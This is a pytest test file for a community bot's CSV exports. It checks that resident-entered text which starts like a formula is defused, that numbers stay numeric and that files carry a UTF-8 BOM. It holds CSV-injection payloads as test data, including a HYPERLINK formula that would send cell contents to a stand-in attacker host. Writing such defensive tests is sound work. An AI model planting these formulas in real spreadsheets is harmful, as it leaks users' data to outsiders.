"""Every CSV the bot hands out is safe to open in Excel/WPS: a resident's text that looks like a formula is shown
as text (OWASP CSV injection), numbers stay numbers, and the file starts with a UTF-8 BOM so Chinese reads right."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import os
import sys
from pathlib import Path

import pytest

from bot.cli import build_parser
from bot.cli_needs import list_text
from bot.cli_review import run_command
from storage import migrate
from storage.db import Database
from storage.exports import BOM, csv_text, safe_cell, write_csv
from storage.needs import Need, report_need
from storage.projects import Project, ProjectStatus
from storage.review import cast_vote
from tests.factories import make_district, make_resident

REPO = Path(__file__).resolve().parent.parent
# What a resident can type as a need (the last two reach the table some other way: chat strips them).
HOSTILE = ['=HYPERLINK("http://x","y")', "+1", "-2+3", "@SUM(A1)", "\tfoo", "\rbar"]
DEFUSED = ["'" + text for text in HOSTILE]


@pytest.mark.parametrize(("value", "expected"), [
    *zip(HOSTILE, DEFUSED, strict=True),
    ("=1+1", "'=1+1"),
    ("楼道灯坏了，=号在中间没事", "楼道灯坏了，=号在中间没事"),
    (" =leading space is text in every spreadsheet", " =leading space is text in every spreadsheet"),
    ("", ""),
    (-5, -5),  # a points delta passed as a number stays a number
    (2.5, 2.5),
    (None, None),
])
def test_a_cell_that_starts_like_a_formula_is_defused_and_nothing_else_changes(value, expected):
    assert safe_cell(value) == expected


def test_write_csv_starts_with_a_bom_and_defuses_every_cell_header_included(tmp_path):
    path = tmp_path / "ledger.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        write_csv([["=1+1", -5, "楼道灯"]], file, header=["@名称", "积分", "内容"])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(raw.decode("utf-8-sig")))) == [["'@名称", "积分", "内容"],
                                                                     ["'=1+1", "-5", "楼道灯"]]
    assert csv_text([["a,b", 'say "hi"']]) == BOM + '"a,b","say ""hi"""\r\n'  # quoting still csv's


def read_csv(text: str) -> list[dict[str, str]]:
    assert text.startswith(BOM)  # Excel/WPS read UTF-8 (not GBK) only with the BOM
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM), newline="")))


async def hostile_needs(db, clock) -> None:
    """A resident (with a name that is a formula too) reports one need per hostile text, and one plain one."""
    d = await make_district(db)
    resident = await make_resident(db, "o_mallory", d.buildings["B1"], name="=2+5", phone="13812345678")
    for text in [*HOSTILE, "楼道灯坏了"]:
        need = await report_need(db, resident.id, text if text.strip() == text else "placeholder", "JZ-05",
                                 clock.now())
        if text.strip() != text:  # storage strips a resident's text; an import or an old row might not
            async with db.write() as s:
                row = await s.get(Need, need.id)
                row.text = text
                s.add(row)
        clock.advance(minutes=1)


async def test_the_needs_ledger_csv_shows_residents_formulas_as_text(db, clock):
    await hostile_needs(db, clock)
    out = await list_text(db, clock.now(), build_parser().parse_args(["needs", "list", "--csv"]))
    rows = read_csv(out)
    assert [r["内容"] for r in rows] == [*DEFUSED, "楼道灯坏了"]
    assert {r["联系人"] for r in rows} == {"'=2+5 138****5678"}
    assert {r["反映人数"] for r in rows} == {"1"} and rows[0]["分类"] == "JZ-05"
    assert "13812345678" not in out
    for row in rows:  # not one cell a spreadsheet would evaluate
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


async def test_the_review_export_and_project_list_show_a_formula_title_as_text(db, clock):
    d = await make_district(db)
    title = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    async with db.write() as s:
        s.add(Project(community_id=d.communities["C1"].id, title=title, content="换灯", measures="采购安装",
                      deadline=dt.date(2026, 12, 31), status=ProjectStatus.COMPLETED, created_by="test",
                      created_at=clock.now(), completed_at=clock.now()))
    voter = await make_resident(db, "o_voter", d.buildings["B1"])

    async def steward(*argv: str) -> str:
        return await run_command(db, clock.now(), build_parser().parse_args(list(argv)))

    await steward("review", "open", "--community", "C1", "--days", "3")
    await cast_vote(db, 1, resident_id=voter.id, project_id=1, choice="satisfied", now=clock.now())
    clock.advance(days=4)
    await steward("review", "close", "1")
    [row] = read_csv(await steward("review", "export", "1", "--csv"))
    assert row["项目名称"] == "'" + title
    assert (row["满意"], row["有效票"], row["满意率"]) == ("1", "1", "100.0%")  # numbers untouched

    [listed] = read_csv(await steward("project", "list", "--community", "C1"))
    assert listed == {"编号": "1", "名称": "'" + title, "状态": "已完成", "承接单位": "", "期限": "2026-12-31"}


async def test_the_real_command_prints_a_bom_csv_with_the_formulas_defused(tmp_path, clock):
    path = tmp_path / "steward.db"
    db = Database(f"sqlite+aiosqlite:///{path}")
    try:
        await migrate.upgrade(db)
        await hostile_needs(db, clock)
    finally:
        await db.dispose()
    env = {k: v for k, v in os.environ.items() if not k.startswith("STEWARD_")}
    env.update(PYTHONPATH=str(REPO), STEWARD_DATABASE_URL=f"sqlite:///{path}")
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "bot.cli", "needs", "list", "--csv", cwd=tmp_path, env=env,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )
    out, err = await asyncio.wait_for(proc.communicate(), 60)
    assert proc.returncode == 0, err.decode()
    assert out.startswith(b"\xef\xbb\xbf\xe7\xbc\x96\xe5\x8f\xb7,")  # BOM, then 编号 in UTF-8
    rows = read_csv(out.decode("utf-8"))
    assert [r["内容"] for r in rows] == [*DEFUSED, "楼道灯坏了"]
